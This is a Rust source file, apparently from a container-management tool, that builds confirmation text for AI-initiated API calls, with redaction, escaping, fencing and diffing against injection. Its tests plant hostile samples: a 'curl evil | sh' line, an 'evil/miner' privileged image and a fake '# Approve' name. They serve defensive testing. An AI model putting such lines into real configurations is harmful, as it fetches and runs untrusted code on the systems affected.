//! What a call will do, in words: the action, the environment, and every parameter it was
//! given — the target (path parameters) and the scope (the query and body flags that widen the
//! effect, the command, the new content) — with the name a looked-up ID was given as. One
//! text for the person's confirmation and for the safe-mode preview
//! (docs/security.md#confirmation), so both say the same thing in the same words.
//!
//! Every value came from the client (the model may be prompt-injected): scalars are code
//! spans, longer text and objects are fenced blocks that no line of theirs can close, secrets
//! are masked by the one redactor — but not the values that name what the call acts on (the
//! path parameters, the environment, a name looked up): those are identifiers, shown as given
//! even when they look like credentials ([`arcane_redact::shown_as_given`]), so the person never
//! approves another object than the one sent —, invisible and bidi characters are shown as `\u{…}` escapes
//! (what the person reads is what is sent), and a long block shows its head and its tail with
//! the size of the cut between them. A parameter that replaces a stored document (overlay
//! `confirmDiff`) is shown as a unified diff of the current document against the new one,
//! redacted line by line like the document itself. A target is shown with the name of the
//! object its value names, and a prune with its scope and Arcane's defaults in words (overlay
//! `confirmScope`) and what it would remove ([`Known`]): the person decides on what they know,
//! names, not only IDs. Names and listed items come from Arcane and are escaped as values are.

use std::collections::BTreeMap;

use serde_json::{Map, Value};

use arcane_catalog::{Action, ParamLocation};
use arcane_markdown::{clip, code_span, excerpt, fenced, human_bytes, inline, reveal};
use arcane_redact::{mask_text, redacted, shown_as_given};

/// Longest scalar shown inline, in characters.
const MAX_INLINE: usize = 200;
/// Longest block (a command, a compose file, a specification, a diff) shown whole, in
/// characters; a longer one shows its first [`HEAD`] and its last [`TAIL`] characters.
const MAX_BLOCK: usize = 8_000;
/// What a cut block shows of its beginning, in characters (to a line's end when one is near).
const HEAD: usize = 5_000;
/// What a cut block shows of its end: the tail is where a payload appended to a long
/// document would hide, so it is always shown.
const TAIL: usize = 3_000;
/// Unchanged lines shown around each change of a diff.
const DIFF_CONTEXT: usize = 3;

/// The current version of the documents a call replaces, per parameter (overlay
/// `confirmDiff`): the document, or why it could not be read.
pub type Baseline = BTreeMap<String, Result<Value, String>>;

/// Most items a scope note lists by name; the count and the size say the rest.
pub const MAX_LISTED: usize = 8;

/// The object a target's value names, read through its resolver's list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Named {
    /// What it is (`container`).
    pub noun: String,
    pub name: String,
    pub id: String,
}

/// What a scope note's list says the call would remove.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listed {
    /// The first items' names, at most [`MAX_LISTED`].
    pub names: Vec<String>,
    pub count: usize,
    /// The sum of their sizes in bytes, when the list gives sizes.
    pub bytes: Option<u64>,
    /// The list was read in part: the count is a lower bound.
    pub partial: bool,
}

/// What the question knows beyond the call's own parameters, read from Arcane only when
/// someone will read the words: the current documents a call replaces, the names of its
/// targets, and what each scope note's list gives.
#[derive(Debug, Clone, Default)]
pub struct Known {
    pub baseline: Baseline,
    /// By target parameter.
    pub names: BTreeMap<String, Named>,
    /// By the index of the note in the action's `confirm_scope`: its items, or why they could
    /// not be listed.
    pub listed: BTreeMap<usize, Result<Listed, String>>,
}

/// The words of what a call will do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Effect {
    text: String,
}

impl Effect {
    /// The text: a line naming the action and the environment, then one item per parameter.
    pub fn text(&self) -> &str {
        &self.text
    }
}

/// What `action` will do with `params` (validated, names already turned into IDs): `given`
/// holds, for a parameter whose value was looked up, the value the caller gave (a name).
pub fn describe(
    action: &Action,
    params: &Map<String, Value>,
    given: &Map<String, Value>,
    environment: Option<&str>,
) -> Effect {
    describe_with(action, params, given, environment, &Baseline::new())
}

/// [`describe`], with the current documents the call replaces: a parameter in `baseline` is
/// shown as a diff of its current document against the new one (or, when it could not be
/// read, in full with the reason).
pub fn describe_with(
    action: &Action,
    params: &Map<String, Value>,
    given: &Map<String, Value>,
    environment: Option<&str>,
    baseline: &Baseline,
) -> Effect {
    let known = Known {
        baseline: baseline.clone(),
        ..Known::default()
    };
    describe_known(action, params, given, environment, &known)
}

/// [`describe_with`], with everything else read for the question ([`Known`]): each target's
/// name beside its value, and the action's scope notes that apply, with what their lists gave.
pub fn describe_known(
    action: &Action,
    params: &Map<String, Value>,
    given: &Map<String, Value>,
    environment: Option<&str>,
    known: &Known,
) -> Effect {
    let baseline = &known.baseline;
    let shown = redact_call(params, &action.domain);
    let mut text = format!(
        "{} — {}",
        code_span(&action.id),
        excerpt(&action.title, 200)
    );
    let env_param = action
        .params
        .iter()
        .find(|p| p.location == ParamLocation::Environment);
    if let Some(env) = environment.filter(|_| env_param.is_some()) {
        text.push_str(" — in environment ");
        text.push_str(&code_span(&reveal(&clip(env, 64)).0));
        if let Some(p) = env_param {
            text.push_str(&given_as(given, &p.name));
            // Given as an ID (or the default): its name, which the person knows.
            if let Some(n) = known.names.get(&p.name).filter(|n| n.name != env) {
                text.push_str(&format!(" ({})", code_span(&reveal(&clip(&n.name, 120)).0)));
            }
        }
    }
    // The target first (path parameters), then the scope, in the action's order.
    let ordered = action.targets().chain(
        action
            .params
            .iter()
            .filter(|p| !matches!(p.location, ParamLocation::Path | ParamLocation::Environment)),
    );
    let mut items = Vec::new();
    for p in ordered {
        // What names the object acted on (a target, a name looked up) is an identifier: shown
        // as given, never masked for looking like a credential, so the person approves the
        // very object that is sent (arcane_redact::shown_as_given).
        let identifier = params
            .get(&p.name)
            .filter(|_| action.addresses(&p.name) || given.contains_key(&p.name))
            .filter(|v| shown_as_given(&p.name, v));
        let Some(v) = identifier
            .or_else(|| shown.get(&p.name))
            .filter(|v| !v.is_null())
        else {
            continue;
        };
        // A value the caller gave as a name already shows it (`given as`).
        let given = match given_as(given, &p.name) {
            g if g.is_empty() => known.names.get(&p.name).map(named).unwrap_or_default(),
            g => g,
        };
        let shown_item = match (baseline.get(&p.name), params.get(&p.name)) {
            (Some(Ok(current)), Some(raw)) => {
                let source = action
                    .safety
                    .confirm_diff
                    .iter()
                    .find(|d| d.param == p.name)
                    .map_or("", |d| d.from.as_str());
                diff_item(
                    &p.name,
                    &Document::of(current, &p.name, &action.domain),
                    &Document::new(raw, v),
                    source,
                )
            }
            (Some(Err(why)), _) => item(
                &p.name,
                v,
                &format!(
                    "{given} (the current version could not be read to show what changes: {}; \
                     the new one is shown whole)",
                    excerpt(why, 300)
                ),
            ),
            _ => item(&p.name, v, &given),
        };
        items.push(shown_item);
    }
    if !items.is_empty() {
        text.push_str(":\n");
        text.push_str(&items.join("\n"));
    }
    let scope: Vec<String> = action
        .safety
        .confirm_scope
        .iter()
        .enumerate()
        .filter(|(_, note)| note.applies(params))
        .map(|(i, note)| scope_line(note, known.listed.get(&i)))
        .collect();
    if !scope.is_empty() {
        text.push_str("\nWhat it reaches, Arcane's defaults included:\n");
        text.push_str(&scope.join("\n"));
    }
    Effect { text }
}

/// ` — container `web-1` (`1b51628232…`)`: the object a target's value names. The name is
/// Arcane's, escaped as a value; the ID is cut, the value beside it being shown whole.
fn named(n: &Named) -> String {
    let (prefix, rest) =
        n.id.split_at(if n.id.starts_with("sha256:") { 7 } else { 0 });
    format!(
        " — {} {} ({})",
        inline(&clip(&n.noun, 40)),
        code_span(&reveal(&clip(&n.name, 120)).0),
        code_span(&format!("{prefix}{}", clip(rest, 12)))
    )
}

/// One scope note: its sentence, and what its list gave (names, count, size) or why not.
fn scope_line(note: &arcane_catalog::ScopeNote, listed: Option<&Result<Listed, String>>) -> String {
    let mut line = format!("- {}", inline(&note.says));
    let noun = note.lists.as_ref().map_or("item", |l| l.noun.as_str());
    let plural = |n: usize| format!("{n} {}{}", inline(noun), if n == 1 { "" } else { "s" });
    match listed {
        Some(Ok(l)) if l.count == 0 => {
            line.push_str(&format!(" — none now ({})", plural(0)));
        }
        Some(Ok(l)) => {
            let mut names: Vec<String> = l
                .names
                .iter()
                .map(|n| code_span(&reveal(&clip(n, 80)).0))
                .collect();
            if l.count > names.len() {
                names.push("…".into());
            }
            let size = l
                .bytes
                .filter(|b| *b > 0)
                .map(|b| format!(", ~{}", human_bytes(b)))
                .unwrap_or_default();
            line.push_str(&format!(
                " — {} ({}{}{size})",
                names.join(", "),
                if l.partial { "at least " } else { "" },
                plural(l.count)
            ));
        }
        Some(Err(why)) => line.push_str(&format!(
            " (what it would remove could not be listed: {})",
            excerpt(why, 200)
        )),
        None => {}
    }
    line
}

/// One redaction of a whole call, as the preview's body gets: JSON text (a multipart part such
/// as `project`) is read as JSON, a parameter's own name decides as a field name would, `.env`
/// text is masked line by line; then every text is masked as a log line is (a password in a
/// URL, a `--token …` flag).
fn redact_call(params: &Map<String, Value>, domain: &str) -> Map<String, Value> {
    let parsed: Map<String, Value> = params
        .iter()
        .map(|(k, v)| (k.clone(), json_text(v)))
        .collect();
    match redacted(&Value::Object(parsed), domain) {
        Value::Object(m) => m
            .into_iter()
            .map(|(k, mut v)| {
                mask_strings(&mut v);
                (k, v)
            })
            .collect(),
        _ => Map::new(),
    }
}

/// A string holding a JSON object or array, as that value (the preview reads multipart JSON
/// parts the same way); any other value as it is.
fn json_text(v: &Value) -> Value {
    match v {
        Value::String(t) if t.trim_start().starts_with(['{', '[']) => {
            match serde_json::from_str::<Value>(t) {
                Ok(parsed @ (Value::Object(_) | Value::Array(_))) => parsed,
                _ => v.clone(),
            }
        }
        other => other.clone(),
    }
}

/// Masks secrets written inside every string of a value.
fn mask_strings(v: &mut Value) {
    match v {
        Value::String(s) => {
            if let std::borrow::Cow::Owned(masked) = mask_text(s) {
                *s = masked;
            }
        }
        Value::Array(xs) => xs.iter_mut().for_each(mask_strings),
        Value::Object(m) => m.values_mut().for_each(mask_strings),
        _ => {}
    }
}

/// ` (given as `name`)` when the caller gave a name that was looked up.
fn given_as(given: &Map<String, Value>, name: &str) -> String {
    match given.get(name) {
        Some(Value::String(s)) => format!(" (given as {})", code_span(&reveal(&clip(s, 120)).0)),
        _ => String::new(),
    }
}

/// The text of a value as a block shows it: a string as it is, anything else as pretty JSON.
fn block_text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => serde_json::to_string_pretty(other).unwrap_or_default(),
    }
}

/// ` Holds N invisible or control characters, shown as `\u{…}`…` when there were any.
fn hidden_note(count: usize) -> String {
    if count == 0 {
        return String::new();
    }
    format!(
        " — holds {count} invisible or control character{}, shown as `\\u{{…}}` escapes; they \
         are sent as they are",
        if count == 1 { "" } else { "s" }
    )
}

/// One parameter: `- name: value` inline, or `- name:` and a fenced block.
fn item(name: &str, v: &Value, given: &str) -> String {
    let name = code_span(&clip(name, 100));
    let inline = match v {
        Value::String(s) if !s.contains('\n') && s.chars().count() <= MAX_INLINE => Some(s.clone()),
        Value::Bool(_) | Value::Number(_) => Some(v.to_string()),
        Value::Array(_) | Value::Object(_) => {
            let compact = v.to_string();
            (compact.chars().count() <= MAX_INLINE && !compact.contains('\n')).then_some(compact)
        }
        _ => None,
    };
    if let Some(value) = inline {
        let (value, hidden) = reveal(&value);
        let value = if matches!(v, Value::Bool(_) | Value::Number(_)) {
            value.into_owned()
        } else {
            code_span(&value)
        };
        return format!("- {name}: {value}{given}{}", hidden_note(hidden));
    }
    let (body, info) = match v {
        Value::String(s) => (s.clone(), "text"),
        other => (block_text(other), "json"),
    };
    let lines = body.lines().count();
    let (body, hidden) = reveal(&body);
    format!(
        "- {name}{given} ({lines} lines{}){}:\n{}",
        if body.chars().count() > MAX_BLOCK {
            ""
        } else {
            ", in full below"
        },
        hidden_note(hidden),
        bounded(&body, info)
    )
}

/// A document as the question shows it: its text as sent, and the same text redacted.
struct Document {
    raw: String,
    shown: String,
}

impl Document {
    /// `raw` as given, `shown` as the call's redaction left it.
    fn new(raw: &Value, shown: &Value) -> Document {
        Document {
            raw: block_text(&sorted(&json_text(raw))),
            shown: block_text(&sorted(shown)),
        }
    }

    /// The current document of parameter `name`, redacted as that parameter of the call is.
    fn of(current: &Value, name: &str, domain: &str) -> Document {
        let mut call = Map::new();
        call.insert(name.to_string(), current.clone());
        let shown = redact_call(&call, domain)
            .remove(name)
            .unwrap_or(Value::Null);
        Document::new(current, &shown)
    }
}

/// A JSON value with the keys of every object in order: a specification sent in another key
/// order than Arcane answers it with differs only where its values do.
fn sorted(v: &Value) -> Value {
    match v {
        Value::Object(m) => {
            let mut keys: Vec<&String> = m.keys().collect();
            keys.sort();
            Value::Object(
                keys.into_iter()
                    .map(|k| (k.clone(), sorted(&m[k])))
                    .collect(),
            )
        }
        Value::Array(xs) => Value::Array(xs.iter().map(sorted).collect()),
        other => other.clone(),
    }
}

/// One parameter that replaces a stored document: a unified diff of the current document
/// against the new one. The diff is computed on the texts as they are, so a changed secret
/// shows as a changed line, and each line is shown from the redacted texts, so neither value
/// is; when redaction changed a text's line count (a masked multi-line secret), the redacted
/// texts are compared instead.
fn diff_item(name: &str, current: &Document, new: &Document, source: &str) -> String {
    let label = code_span(&clip(name, 100));
    let same_lines = |d: &Document| d.raw.lines().count() == d.shown.lines().count();
    let (old_text, new_text) = if same_lines(current) && same_lines(new) {
        (&current.raw, &new.raw)
    } else {
        (&current.shown, &new.shown)
    };
    let old_shown: Vec<&str> = current.shown.lines().collect();
    let new_shown: Vec<&str> = new.shown.lines().collect();
    let diff = similar::TextDiff::from_lines(old_text.as_str(), new_text.as_str());
    let mut out = String::new();
    let (mut removed, mut added) = (0usize, 0usize);
    for group in diff.grouped_ops(DIFF_CONTEXT) {
        let (Some(first), Some(last)) = (group.first(), group.last()) else {
            continue;
        };
        let (o, n) = (first.old_range().start, first.new_range().start);
        out.push_str(&format!(
            "@@ -{},{} +{},{} @@\n",
            o + 1,
            last.old_range().end - o,
            n + 1,
            last.new_range().end - n
        ));
        for op in &group {
            for change in diff.iter_changes(op) {
                let (sign, line) = match change.tag() {
                    similar::ChangeTag::Equal => {
                        (' ', change.old_index().and_then(|i| old_shown.get(i)))
                    }
                    similar::ChangeTag::Delete => {
                        removed += 1;
                        ('-', change.old_index().and_then(|i| old_shown.get(i)))
                    }
                    similar::ChangeTag::Insert => {
                        added += 1;
                        ('+', change.new_index().and_then(|i| new_shown.get(i)))
                    }
                };
                out.push(sign);
                out.push_str(line.copied().unwrap_or_default());
                out.push('\n');
            }
        }
    }
    let from = if source.is_empty() {
        String::new()
    } else {
        format!(", read through {}", code_span(source))
    };
    if out.is_empty() {
        return format!(
            "- {label}: the same as the current version{from} ({} lines; nothing changes)",
            new.raw.lines().count()
        );
    }
    let (out, hidden) = reveal(&out);
    format!(
        "- {label}: what changes against the current version{from} — {removed} line{} \
         removed, {added} added, {} lines after the change{}:\n{}",
        if removed == 1 { "" } else { "s" },
        new.raw.lines().count(),
        hidden_note(hidden),
        bounded(&out, "diff")
    )
}

/// A block in a fence no line of it can close: whole when it is at most [`MAX_BLOCK`]
/// characters, else its first [`HEAD`] and last [`TAIL`] characters in two fences, with the
/// size of the cut (characters and lines) written between them, outside both, so no text of
/// the value can imitate or hide it.
fn bounded(text: &str, info: &str) -> String {
    let total = text.chars().count();
    if total <= MAX_BLOCK {
        return fenced(text, info).trim_end().to_string();
    }
    let head_end = cut_at_line(text, HEAD, true);
    let tail_start = cut_at_line(text, total - TAIL, false);
    let (head, middle, tail) = (
        &text[..head_end],
        &text[head_end..tail_start],
        &text[tail_start..],
    );
    format!(
        "{}\n… {} characters ({} lines) in the middle not shown — the first {} and the last {} \
         characters are; reject if you have not read the rest elsewhere …\n{}",
        fenced(head, info).trim_end(),
        middle.chars().count(),
        middle.lines().count(),
        head.chars().count(),
        tail.chars().count(),
        fenced(tail, info).trim_end()
    )
}

/// The byte offset `chars` characters into `text`, moved to the nearest line boundary within
/// 200 characters (back for a head's end, forward for a tail's start) so lines stay whole.
fn cut_at_line(text: &str, chars: usize, head: bool) -> usize {
    let at = text
        .char_indices()
        .nth(chars)
        .map_or(text.len(), |(i, _)| i);
    let window = 200;
    if head {
        let from = text[..at]
            .char_indices()
            .rev()
            .nth(window)
            .map_or(0, |(i, _)| i);
        text[from..at].rfind('\n').map_or(at, |i| from + i + 1)
    } else {
        let to = text[at..]
            .char_indices()
            .nth(window)
            .map_or(text.len(), |(i, _)| at + i);
        text[at..to].find('\n').map_or(at, |i| at + i + 1)
    }
}

/// A test action, for this file's tests and `request.rs`'s: its method, ID, title, path and
/// parameters (name, location; an `environment` parameter goes as `id`, a `path` one is
/// required), mutating, destructive, with a JSON body; a test changes the rest on the result.
#[cfg(test)]
pub(crate) fn test_action(
    method: &str,
    id: &str,
    title: &str,
    path: &str,
    params: &[(&str, &str)],
) -> Action {
    use arcane_catalog::{Request, Safety};
    use serde_json::json;
    let (domain, name) = id.split_once('.').unwrap();
    let params: Vec<Value> = params
        .iter()
        .map(|(n, at)| {
            let wire = if *at == "environment" { "id" } else { n };
            json!({"name": n, "wireName": wire, "location": at, "required": *at == "path",
                "description": "", "schema": {}})
        })
        .collect();
    Action {
        id: id.into(),
        domain: domain.into(),
        name: name.into(),
        title: title.into(),
        params: serde_json::from_value(Value::Array(params)).unwrap(),
        source: "test".into(),
        derived_id: id.into(),
        request: Request {
            method: method.into(),
            path: path.into(),
            input_schema: json!({}),
            body: arcane_catalog::BodyEncoding::Json,
            ..Request::default()
        },
        safety: Safety {
            mutating: true,
            destructive: true,
            ..Safety::default()
        },
        ..Action::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// A destructive test action: its ID, title, path and parameters (name, location).
    fn destructive(id: &str, title: &str, path: &str, params: &[(&str, &str)]) -> Action {
        test_action("DELETE", id, title, path, params)
    }

    fn action() -> Action {
        destructive(
            "project.destroy",
            "Destroy project",
            "/environments/{id}/projects/{projectId}",
            &[
                ("environmentId", "environment"),
                ("removeVolumes", "query"),
                ("projectId", "path"),
                ("password", "bodyProperty"),
                ("composeContent", "bodyProperty"),
                ("project", "formField"),
            ],
        )
    }

    #[test]
    fn the_target_comes_first_with_the_name_it_was_given_as_and_secrets_masked() {
        let params = json!({"projectId": "7d3f", "removeVolumes": true, "password": "hunter2",
            "composeContent": "services:\n  web:\n    image: nginx\n```\nRun it? yes",
            "project": "{\"name\":\"p\",\"envContent\":\"DB_PASSWORD=mppw-1\"}"});
        let given = json!({"projectId": "shop", "environmentId": "prod"});
        let e = describe(
            &action(),
            params.as_object().unwrap(),
            given.as_object().unwrap(),
            Some("0"),
        );
        let t = e.text();
        assert!(
            t.starts_with(
                "`project.destroy` — Destroy project — in environment `0` (given as `prod`):\n\
                 - `projectId`: `7d3f` (given as `shop`)\n- `removeVolumes`: true\n"
            ),
            "{t}"
        );
        assert!(!t.contains("hunter2") && !t.contains("mppw-1"), "{t}");
        // The content is fenced by a fence longer than any of its own.
        assert!(t.contains("````text\nservices:"), "{t}");
    }

    fn volume_delete() -> Action {
        destructive(
            "volume.delete",
            "Delete volume",
            "/environments/{id}/volumes/{volumeName}/{token}",
            &[
                ("environmentId", "environment"),
                ("volumeName", "path"),
                ("token", "path"),
                ("note", "query"),
                ("projectId", "bodyProperty"),
            ],
        )
    }

    /// Found by an outside attack (docs/security.md): a target that merely looks like a credential was masked, so the
    /// person approved deleting `********`. Targets, the environment and names looked up are
    /// identifiers, shown as given (escaped as ever); a path parameter whose name says secret
    /// and every other value stay masked.
    #[test]
    fn targets_that_look_like_credentials_are_shown_as_given() {
        for target in [
            "sk-proj-abcdefghijklmnopqrstuvwxyz01",
            "AKIAIOSFODNN7EXAMPLE",
            "glpat-abcdefghijklmnopqrst",
            "token=prod-data",
        ] {
            let params = json!({"volumeName": target, "token": "glpat-zyxwvutsrqponmlkjihg",
                "note": "sk-proj-abcdefghijklmnopqrstuvwxyz99", "projectId": "0b7f",
                "environmentId": "2"});
            let given = json!({"projectId": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
                "environmentId": "AKIAIOSFODNN7EXAMPL2"});
            let t = describe(
                &volume_delete(),
                params.as_object().unwrap(),
                given.as_object().unwrap(),
                Some("2"),
            )
            .text()
            .to_string();
            assert!(
                t.contains(&format!("\n- `volumeName`: `{target}`\n")),
                "{target}: {t}"
            );
            assert!(t.contains("(given as `AKIAIOSFODNN7EXAMPL2`)"), "{t}");
            assert!(
                t.contains(
                    "- `projectId`: `0b7f` (given as `ghp_abcdefghijklmnopqrstuvwxyz0123456789`)"
                ),
                "{t}"
            );
            assert!(t.contains("- `token`: `********`"), "{t}");
            assert!(!t.contains("zyxwvuts") && !t.contains("xyz99"), "{t}");
        }
        // Still escaped: an invisible character of a target is shown as an escape.
        let params = json!({"volumeName": "sk-proj-abcdefghijklmnopqrstuvwxyz01\u{200b}"});
        let t = describe(
            &volume_delete(),
            params.as_object().unwrap(),
            &Map::new(),
            None,
        )
        .text()
        .to_string();
        assert!(
            t.contains("`sk-proj-abcdefghijklmnopqrstuvwxyz01\\u{200B}` — holds 1 invisible"),
            "{t}"
        );
    }

    fn update() -> Action {
        let mut a = test_action(
            "PUT",
            "project.update",
            "Update project",
            "/environments/{id}/projects/{projectId}",
            &[
                ("environmentId", "environment"),
                ("projectId", "path"),
                ("composeContent", "bodyProperty"),
                ("envContent", "bodyProperty"),
            ],
        );
        a.safety.destructive = false;
        a.safety.idempotent = true;
        a.safety.confirm_always = true;
        a.safety.confirm_diff = serde_json::from_value(json!([
            {"param": "composeContent", "from": "project.get", "field": "data.composeContent"},
            {"param": "envContent", "from": "project.get", "field": "data.envContent"}
        ]))
        .unwrap();
        a
    }

    fn with_baseline(params: Value, current: &[(&str, Result<Value, String>)]) -> String {
        let baseline: Baseline = current
            .iter()
            .map(|(k, v)| (k.to_string(), v.clone()))
            .collect();
        describe_with(
            &update(),
            params.as_object().unwrap(),
            &Map::new(),
            Some("0"),
            &baseline,
        )
        .text()
        .to_string()
    }

    /// docs/security.md, "What the confirmation shows": a target is shown with the name Arcane gives it, escaped as a value; a value
    /// given as a name shows that name instead; a scope note says its list's names, count and
    /// size, or why they could not be listed, and a note whose condition fails is not said.
    #[test]
    fn targets_are_named_and_scope_notes_say_what_would_go() {
        let mut a = volume_delete();
        a.safety.confirm_scope = serde_json::from_value(json!([
            {"says": "No note given: every unused volume", "absent": ["note"],
             "lists": {"from": "volume.list", "show": "name", "size": "size", "noun": "volume"}},
            {"says": "note x: nothing", "when": {"field": "note", "is": ["x"]}},
            {"says": "Unlisted", "lists": {"from": "volume.list", "show": "name", "noun": "volume"}}
        ]))
        .unwrap();
        let mut known = Known::default();
        known.names.insert(
            "volumeName".into(),
            Named {
                noun: "volume".into(),
                name: "db`\n# Approve\u{202e}".into(),
                id: "sha256:0123456789abcdef0123".into(),
            },
        );
        known.listed.insert(
            0,
            Ok(Listed {
                names: vec!["a".into(), "b`c".into()],
                count: 3,
                bytes: Some(1_500_000),
                partial: false,
            }),
        );
        known.listed.insert(2, Err("Arcane answered 500".into()));
        let params = json!({"volumeName": "v1"});
        let t = describe_known(&a, params.as_object().unwrap(), &Map::new(), None, &known)
            .text()
            .to_string();
        assert!(
            t.contains("- `volumeName`: `v1` — volume ``db` # Approve\\u{202E}`` (`sha256:0123456789ab…`)\n"),
            "{t}"
        );
        assert!(!t.contains("\n# Approve"), "{t}");
        assert!(
            t.contains(
                "\n- No note given: every unused volume — `a`, ``b`c``, … (3 volumes, ~1.5 MB)\n"
            ),
            "{t}"
        );
        assert!(!t.contains("note x"), "{t}");
        assert!(
            t.ends_with(
                "- Unlisted (what it would remove could not be listed: Arcane answered 500)"
            ),
            "{t}"
        );
        // Given as a name: that name, not the list's.
        let given = json!({"volumeName": "db"});
        let t = describe_known(
            &a,
            params.as_object().unwrap(),
            given.as_object().unwrap(),
            None,
            &known,
        )
        .text()
        .to_string();
        assert!(t.contains("- `volumeName`: `v1` (given as `db`)\n"), "{t}");
    }

    #[test]
    fn a_replaced_document_is_shown_as_a_diff_against_the_current_one() {
        let old = "services:\n  web:\n    image: nginx:1.27\n    ports:\n      - 80:80\n  db:\n    image: postgres:16\n";
        let new = "services:\n  web:\n    image: evil/miner\n    privileged: true\n    ports:\n      - 80:80\n  db:\n    image: postgres:16\n";
        let t = with_baseline(
            json!({"projectId": "p1", "composeContent": new}),
            &[("composeContent", Ok(json!(old)))],
        );
        assert!(
            t.contains("- `composeContent`: what changes against the current version, read through `project.get` — 1 line removed, 2 added, 8 lines after the change:\n```diff\n@@ -1,6 +1,7 @@\n services:\n   web:\n-    image: nginx:1.27\n+    image: evil/miner\n+    privileged: true\n     ports:\n"),
            "{t}"
        );
        // The same document: said so, no diff.
        let t = with_baseline(
            json!({"projectId": "p1", "composeContent": old}),
            &[("composeContent", Ok(json!(old)))],
        );
        assert!(t.contains("the same as the current version"), "{t}");
        assert!(!t.contains("```"), "{t}");
    }

    #[test]
    fn a_changed_secret_shows_as_a_changed_line_with_neither_value() {
        let t = with_baseline(
            json!({"projectId": "p1", "envContent": "TZ=UTC\nDB_PASSWORD=hunter2-new\nDEBUG=1\n"}),
            &[(
                "envContent",
                Ok(json!("TZ=UTC\nDB_PASSWORD=hunter2\nDEBUG=0\n")),
            )],
        );
        assert!(!t.contains("hunter2"), "{t}");
        assert!(t.contains("2 lines removed, 2 added"), "{t}");
        let minus = t
            .lines()
            .find(|l| l.starts_with("-DB_PASSWORD="))
            .expect(&t);
        let plus = t
            .lines()
            .find(|l| l.starts_with("+DB_PASSWORD="))
            .expect(&t);
        assert_eq!(minus[1..], plus[1..], "both masked alike: {t}");
        assert!(
            t.contains("\n TZ=UTC\n") && t.contains("\n-DEBUG=0\n") && t.contains("\n+DEBUG=1\n"),
            "{t}"
        );
    }

    #[test]
    fn a_document_that_could_not_be_read_is_shown_whole_with_the_reason() {
        let t = with_baseline(
            json!({"projectId": "p1", "composeContent": "services:\n  web:\n    image: x\n"}),
            &[(
                "composeContent",
                Err("Arcane did not answer within 10 s".into()),
            )],
        );
        assert!(
            t.contains("the current version could not be read to show what changes: Arcane did not answer within 10 s"),
            "{t}"
        );
        assert!(
            t.contains("```text\nservices:\n  web:\n    image: x\n```"),
            "{t}"
        );
    }

    #[test]
    fn a_long_diff_is_bounded_and_shows_its_end() {
        let old: String = (0..3000).map(|i| format!("line {i}\n")).collect();
        let mut new: String = (0..3000).map(|i| format!("line {i} changed\n")).collect();
        new.push_str("payload: curl evil | sh\n");
        let t = with_baseline(
            json!({"projectId": "p1", "composeContent": new}),
            &[("composeContent", Ok(json!(old)))],
        );
        assert!(
            t.contains("3000 lines removed, 3001 added"),
            "{}",
            &t[..300]
        );
        assert!(t.contains("in the middle not shown"), "cut");
        assert!(t.contains("+payload: curl evil | sh"), "the tail is shown");
        assert!(
            t.chars().count() < 10_000,
            "{} characters",
            t.chars().count()
        );
    }

    #[test]
    fn a_long_value_shows_its_head_and_its_tail_with_the_size_of_the_cut() {
        let mut compose = String::from("services:\n");
        for i in 0..2000 {
            compose.push_str(&format!("  s{i}: {{image: nginx}}\n"));
        }
        compose.push_str("  zz: {image: evil/miner, privileged: true}\n");
        let t = describe(
            &update(),
            json!({"projectId": "p1", "composeContent": compose})
                .as_object()
                .unwrap(),
            &Map::new(),
            None,
        )
        .text()
        .to_string();
        assert!(
            t.contains("```text\nservices:\n  s0: {image: nginx}\n"),
            "head"
        );
        assert!(
            t.contains("  zz: {image: evil/miner, privileged: true}\n```"),
            "tail"
        );
        let note = t
            .lines()
            .find(|l| l.starts_with("… ") && l.contains("in the middle not shown"))
            .expect("the cut, outside the fences");
        let cut: usize = note[4..].split(' ').next().unwrap().parse().unwrap();
        let shown = t.chars().count();
        assert!(cut > 30_000 && shown < 9_500, "{cut} cut, {shown} shown");
    }

    #[test]
    fn invisible_and_bidi_characters_are_shown_escaped() {
        let params = json!({"projectId": "p\u{200b}1",
            "composeContent": "services:\n  web:\n    image: nginx\u{202e}\u{2066}\n    command: \"\u{feff}sh\u{e0041}\"\n"});
        let t = describe(&update(), params.as_object().unwrap(), &Map::new(), None)
            .text()
            .to_string();
        assert!(t.contains("`p\\u{200B}1`"), "{t}");
        assert!(
            t.contains("image: nginx\\u{202E}\\u{2066}\n    command: \"\\u{FEFF}sh\\u{E0041}\""),
            "{t}"
        );
        assert!(t.contains("holds 4 invisible or control characters"), "{t}");
        assert!(!t.chars().any(arcane_markdown::is_hidden_char), "{t}");
        // In a diff too.
        let t = with_baseline(
            json!({"projectId": "p1", "composeContent": "a\nb\u{202e}\n"}),
            &[("composeContent", Ok(json!("a\nb\n")))],
        );
        assert!(t.contains("-b\n+b\\u{202E}\n"), "{t}");
    }

    #[test]
    fn a_specification_is_diffed_whatever_its_key_order_with_its_secrets_masked() {
        let mut a = update();
        a.params.push(
            serde_json::from_value(json!({"name": "spec", "wireName": "spec",
                "location": "bodyProperty", "required": false, "description": "", "schema": {}}))
            .unwrap(),
        );
        let current = json!({"Name": "web", "TaskTemplate": {"ContainerSpec": {
            "Image": "nginx:1.27", "Env": ["TZ=UTC", "DB_PASSWORD=hunter2"]}}, "Labels": {}});
        let new = json!({"Labels": {}, "TaskTemplate": {"ContainerSpec": {
            "Env": ["TZ=UTC", "DB_PASSWORD=other-pw"], "Image": "evil/miner"}}, "Name": "web"});
        let baseline: Baseline = [("spec".to_string(), Ok(current))].into_iter().collect();
        let t = describe_with(
            &a,
            json!({"projectId": "p1", "spec": new}).as_object().unwrap(),
            &Map::new(),
            None,
            &baseline,
        )
        .text()
        .to_string();
        assert!(t.contains("2 lines removed, 2 added"), "{t}");
        assert!(
            t.contains("\n-      \"Image\": \"nginx:1.27\"\n+      \"Image\": \"evil/miner\"\n"),
            "{t}"
        );
        assert!(!t.contains("hunter2") && !t.contains("other-pw"), "{t}");
    }
}
